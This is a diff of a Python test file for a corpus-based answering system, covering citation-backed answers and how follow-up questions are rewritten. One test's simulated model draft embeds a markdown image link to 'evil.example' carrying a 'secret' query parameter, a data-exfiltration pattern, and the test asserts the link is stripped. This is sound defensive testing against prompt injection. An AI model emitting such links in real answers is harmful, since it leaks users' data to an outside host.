@@ -50,7 +50,9 @@ def written(corpus: Corpus, model: Says, change: Callable[[Answer], Answer] = la
 def test_what_is_not_supported_is_left_out_and_told(ask_with: AskWith) -> None:
     draft = f"{SUPPORTED} The ferry carried 900 tanks [1]. ![x](http://evil.example/?q=secret) [Click](http://evil.example)."
     answer = written(ask_with("extractive"), Says(draft))
-    assert answer.text == "Divers counted 340 crates of oranges on the sea floor. [1]"
+    first, *sides = answer.text.split("\n")
+    assert first == "Divers counted 340 crates of oranges on the sea floor. [1]"
+    assert all("Ida Falk" in line for line in sides if line)  # the side that the model left out
     assert any("900 tanks" in s for s in answer.unsupported)
     assert "evil" not in answer.text and "http" not in answer.text
     assert answer.engine == "openai:says" and answer.notices == ()
@@ -101,7 +103,10 @@ def test_a_follow_up_is_searched_for_as_the_model_puts_it(server: ModelServer, a
     server.script = script
     corpus = ask_with(server.spec)
     history = [Turn("user", "How many crates of oranges did the ferry carry?"), Turn("assistant", "340.")]
-    assert corpus._query("And who denied it?", history).text == "Who denied that the ferry carried crates of oranges?"  # pyright: ignore
+    assert (
+        corpus._answerer._query("And who denied it?", history).text
+        == "Who denied that the ferry carried crates of oranges?"
+    )  # pyright: ignore
     answer = corpus.ask("And who denied it?", history=history)
     assert answer.question == "And who denied it?"
     assert "Question: And who denied it?" in server.asked[-1].prompt
@@ -114,7 +119,9 @@ def test_what_is_no_question_of_the_conversation_is_not_searched_for(
     server.script = lambda s: s.answer(said)
     corpus, plain = ask_with(server.spec), ask_with("extractive")
     history = [Turn("user", "How many crates of oranges did the ferry carry?"), Turn("assistant", "340.")]
-    assert corpus._query("And who denied it?", history) == plain._query("And who denied it?", history)  # pyright: ignore
+    assert corpus._answerer._query("And who denied it?", history) == plain._answerer._query(
+        "And who denied it?", history
+    )  # pyright: ignore
 
 
 def test_an_instruction_in_an_article_changes_nothing(server: ModelServer, ask_with: AskWith,
